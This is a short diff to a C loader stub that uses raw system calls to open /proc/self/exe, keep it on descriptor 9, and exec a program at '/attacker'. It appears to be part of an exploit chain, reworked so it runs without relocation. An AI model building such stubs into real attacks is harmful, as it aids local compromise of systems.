@@ -61,8 +61,9 @@ void begin(long *stack) {
     }
     long fd = call(OPENAT, -100, (long)"/proc/self/exe", 0, 0);
     call(DUP3, fd, 9, 0, 0);
-    const char *words[] = {"/attacker", "w", 0};
-    const char *none[] = {0};
+    /* One by one: a table of addresses would need the loader, which this is, to relocate it */
+    const char *volatile words[3], *volatile none[1];
+    words[0] = "/attacker", words[1] = "w", words[2] = none[0] = 0;
     call(EXECVE, (long)"/attacker", (long)words, (long)none, 0);
     call(EXIT, 1, 0, 0, 0);
 }
